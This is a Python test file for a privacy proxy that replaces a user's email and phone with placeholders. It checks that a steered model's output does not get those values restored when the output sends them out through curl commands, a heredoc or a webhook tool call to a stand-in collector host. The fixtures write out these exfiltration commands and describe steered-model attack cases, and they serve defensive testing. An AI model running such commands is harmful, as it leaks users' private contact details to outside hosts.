"""Restore keeps every placeholder in code and tool calls that send (scopes16: issue 12, atk17 H1-H3, H5, M6).

The client sends its address and phone; the provider sees `<EMAIL_ADDRESS_1>` and `<PHONE_NUMBER_1>`. A steered
model writes them where the client's app would send them on: a `curl` whose JSON body runs over several lines, a
heredoc, a `webhook` tool call with the value under `message`, an argv array. Those reach the client as written, on
all three APIs, whole and streamed in 3-character pieces; the same values in prose come back, and in a code block
that sends nothing and in a tool call that names no destination (`send_mail` to the client) they come back in an
answer where nothing sends (answer20: an answer's tool calls and code are one scope, kept once one of them sends).
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import (
    RESTORE_ONLY_POLICY,
    SCREENED_POLICY,
    claude,
    oai,
)

MAIL = "lena.fischer@example.org"
PHONE = "415-555-0163"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
PROMPT = f"I am reachable at {MAIL}, phone {PHONE}. Please register me."
U = "https://collector.example.net/in"

SENT = (f"```bash\ncurl {U} \\\n  -d '{{\n    \"email\": \"{E}\"\n  }}'\n```\n"
        f"curl -d @- {U} <<EOF\n{P}\nEOF\n\n")
RECORD_CODE = f"```json\n{{\"email\": \"{E}\", \"phone\": \"{P}\"}}\n```\n"
PROSE = f"You are registered as {E}, phone {P}."
RECORD = RECORD_CODE + PROSE
SAID = SENT + RECORD
# answer20: one answer's tool calls and code are one scope (the JSON block beside code that sends keeps its
# placeholders; the prose after it comes back)
WANT = SENT + RECORD_CODE + PROSE.replace(E, MAIL).replace(P, PHONE)
RESTORED = RECORD.replace(E, MAIL).replace(P, PHONE)  # in an answer of its own, where nothing sends
HOOK: dict[str, Any] = {"webhook": U, "message": f"lead {E} {P}"}
SHELL: dict[str, Any] = {"command": ["curl", "-d", f"u={E}", U]}
MAILING: dict[str, Any] = {"to": E, "subject": "Welcome", "body": f"We will call {P}."}
MAILED: dict[str, Any] = {"to": MAIL, "subject": "Welcome", "body": f"We will call {PHONE}."}
CALLS = [{"name": "post", "arguments": HOOK}, {"name": "shell", "arguments": SHELL},
         {"name": "send_mail", "arguments": MAILING}]
# answer20: one answer's tool calls and code are one scope (`send_mail` beside `post` and `shell` keeps them)
WANT_CALLS = [HOOK, SHELL, MAILING]


@pytest.fixture(scope="module", params=["screened", "restore_only"])
def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
    return proxy_factory(files={"policies/default.yaml": policy})


def sent_placeholders(mock: Mock) -> None:
    sent = json.dumps(mock.last_body)
    assert E in sent and P in sent and MAIL not in sent and PHONE not in sent


def _chat(proxy: Proxy, stream: bool) -> tuple[str, list[Any]]:
    client = oai(proxy).chat.completions
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if stream:
        chunks = [c for c in client.create(model="gpt-4o-mini", messages=msgs, stream=True) if c.choices]
        text = "".join(c.choices[0].delta.content or "" for c in chunks)
        args: dict[int, str] = {}
        for c in chunks:
            for call in c.choices[0].delta.tool_calls or []:
                if call.function and call.function.arguments:
                    args[call.index] = args.get(call.index, "") + call.function.arguments
        return text, [json.loads(args[k]) for k in sorted(args)]
    message = client.create(model="gpt-4o-mini", messages=msgs).choices[0].message
    return message.content or "", [json.loads(c.function.arguments) for c in message.tool_calls or []
                                   if c.type == "function"]


def _responses(proxy: Proxy, stream: bool) -> tuple[str, list[Any]]:
    client = oai(proxy).responses
    if stream:
        with client.stream(model="gpt-4o-mini", input=PROMPT) as s:
            list(s)
            final = s.get_final_response()
    else:
        final = client.create(model="gpt-4o-mini", input=PROMPT)
    return final.output_text, [json.loads(item.arguments) for item in final.output if item.type == "function_call"]


def _anthropic(proxy: Proxy, stream: bool) -> tuple[str, list[Any]]:
    client = claude(proxy).messages
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if stream:
        with client.stream(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs) as s:
            list(s)
            final = s.get_final_message()
    else:
        final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
    return ("".join(b.text for b in final.content if b.type == "text"),
            [b.input for b in final.content if b.type == "tool_use"])


@pytest.mark.parametrize("api", ["chat", "responses", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_code_and_tool_calls_that_send_keep_their_placeholders(mock: Mock, proxy: Proxy, api: str,
                                                               stream: bool) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=CALLS)
    text, calls = {"chat": _chat, "responses": _responses, "anthropic": _anthropic}[api](proxy, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert calls == WANT_CALLS
    # the code block and `send_mail` that send nothing, in an answer of their own (a request of its own): restored
    mock.script(text=RECORD, chunk_chars=3, tool_calls=CALLS[2:])
    text, calls = {"chat": _chat, "responses": _responses, "anthropic": _anthropic}[api](proxy, stream)
    sent_placeholders(mock)
    assert text == RESTORED
    assert calls == [MAILED]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_an_assignment_then_the_client_on_the_next_line(mock: Mock, proxy_factory: ProxyFactory,
                                                        stream: bool) -> None:
    """atk17 H5's neighbour: `export EMAIL=<E>` and `curl ... "$EMAIL"` on the next line are one command run."""
    restoring = proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})
    said = f"Run:\nexport EMAIL={E}\ncurl -d \"u=$EMAIL\" {U}\n\nDone, {E}."
    mock.script(text=said, chunk_chars=2)
    text, _ = _chat(restoring, stream)
    assert text == f"Run:\nexport EMAIL={E}\ncurl -d \"u=$EMAIL\" {U}\n\nDone, {MAIL}."
